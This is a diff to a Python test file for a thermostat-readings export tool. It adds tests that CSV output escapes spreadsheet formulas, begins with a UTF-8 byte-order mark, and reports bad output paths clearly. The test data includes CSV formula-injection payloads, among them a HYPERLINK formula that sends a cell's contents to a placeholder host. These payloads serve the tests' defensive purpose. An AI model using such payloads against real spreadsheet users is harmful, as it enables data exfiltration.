@@ -14,6 +14,7 @@ from unittest.mock import Mock
 
 import pytest
 from pyarrow import parquet as arrow_parquet
+from pyarrow.csv import read_csv
 from pyarrow.parquet import read_table
 
 from smarther.domain.reading import Reading, stored
@@ -83,7 +84,7 @@ def said(home: Home, module_id: str = "module-1", *, count: int = 1) -> None:
 
 def read(path: Path) -> list[dict[str, Any]]:
     if path.suffix == ".csv":
-        return list(csv.DictReader(io.StringIO(path.read_text())))
+        return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
     if path.suffix == ".parquet":
         found: list[dict[str, Any]] = read_table(path).to_pylist()
         return found
@@ -112,6 +113,48 @@ def test_csv(home: Home, run: Run, tmp_path: Path) -> None:
     assert row["activation_time"] == FULL.activation_time
     assert json.loads(row["extra"]) == {"new": 1.5}
     assert "1 readings" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        *(("=1+1", "'=1+1"), ("+39 cucina", "'+39 cucina"), ("-2 piano", "'-2 piano"), ("@SUM(1+1)", "'@SUM(1+1)")),
+        *(('=HYPERLINK("http://x/?"&A1,"a")', '\'=HYPERLINK("http://x/?"&A1,"a")'), ("Küche 😀, è", "Küche 😀, è")),
+        *(("a=1", "a=1"), ("'=1", "'=1"), ("\uff1d1+1", "'\uff1d1+1")),
+    ],
+)
+def test_no_name_is_a_formula_in_a_csv_and_every_other_format_has_it_as_it_is(
+    home: Home, run: Run, tmp_path: Path, name: str, cell: str
+) -> None:
+    home.thermostat("module-1", name)
+    said(home)
+    for form in ("csv", "jsonl", "parquet"):
+        run("export", "-o", str(tmp_path / f"all.{form}"))
+        (row,) = read(tmp_path / f"all.{form}")
+        assert row["thermostat"] == (cell if form == "csv" else name)
+
+
+@pytest.mark.parametrize("begin", ["\t", "\r", "\n", " =", "\0", "\t="])
+def test_nothing_else_that_was_said_is_a_formula_either_and_numbers_stay_numbers(
+    home: Home, run: Run, tmp_path: Path, begin: str
+) -> None:
+    reading = replace(FULL, activation_time=f"{begin}1", temperature_c=Decimal("-2.5"))
+    home.table.put_reading(reading, received_at=NOW, source="push")
+    run("export", "-o", str(tmp_path / "all.csv"))
+    (row,) = read(tmp_path / "all.csv")
+    assert (row["activation_time"], row["temperature_c"]) == (f"'{begin}1", "-2.5")
+
+
+def test_a_csv_begins_with_the_mark_by_which_spreadsheets_know_utf_8(home: Home, run: Run, tmp_path: Path) -> None:
+    home.thermostat("module-1", "Città")
+    said(home)
+    run("export", "-o", str(tmp_path / "all.csv"))
+    run("export", "-o", str(tmp_path / "all.jsonl"))
+    assert (tmp_path / "all.csv").read_bytes().startswith(b"\xef\xbb\xbfthermostat,")
+    assert (tmp_path / "all.jsonl").read_bytes().startswith(b"{")
+    table = read_csv(tmp_path / "all.csv")
+    assert table.column_names[0] == "thermostat", "who reads CSV by machine knows the mark as well"
+    assert table["thermostat"].to_pylist() == ["Città"]
 
 
 def test_jsonl_by_the_files_name(home: Home, run: Run, tmp_path: Path) -> None:
@@ -203,7 +246,7 @@ def test_standard_output(home: Home, run: Run) -> None:
     result = run("export", "--format", "jsonl")
 
     assert [json.loads(line)["thermostat"] for line in result.stdout.splitlines()] == ["Kitchen", "Kitchen"]
-    assert run("export").stdout.startswith("thermostat,plant,")
+    assert run("export").stdout.startswith("\ufeffthermostat,plant,"), "the same as in a file"
 
 
 @pytest.mark.usefixtures("small_pages")
@@ -265,6 +308,47 @@ def test_no_readings_leave_no_file(run: Run, tmp_path: Path) -> None:
 
     assert result.exit_code == 4
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    ("output", "words"),
+    [
+        ("nowhere/all.csv", "no folder"),
+        (".", "is a folder"),
+        ("all.xlsx", "does not end in .csv, .jsonl or .parquet"),
+        ("all", "--format"),
+    ],
+)
+def test_a_file_that_cannot_be_is_told_in_a_sentence(  # noqa: PLR0913, PLR0917 - fixtures and a case
+    home: Home, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, output: str, words: str
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    said(home)
+
+    result = run("export", "-o", output)
+
+    assert result.exit_code == 2, result.output
+    assert words in result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_what_the_machine_does_not_let_write_is_told_in_a_sentence(home: Home, run: Run, tmp_path: Path) -> None:
+    said(home)
+    (tmp_path / "all.csv.part").mkdir()
+
+    result = run("export", "-o", str(tmp_path / "all.csv"))
+
+    assert result.exit_code == 1
+    assert "all.csv.part cannot be written or read: Is a directory" in result.stderr
+
+
+def test_a_format_goes_before_the_files_name(home: Home, run: Run, tmp_path: Path) -> None:
+    said(home)
+
+    run("export", "-o", str(tmp_path / "all.txt"), "--format", "jsonl")
+    run("export", "-o", str(tmp_path / "all.ndjson"))
+
+    assert (tmp_path / "all.txt").read_bytes() == (tmp_path / "all.ndjson").read_bytes() != b""
 
 
 def test_a_file_that_is_there_is_replaced_only_when_asked(home: Home, run: Run, tmp_path: Path) -> None:
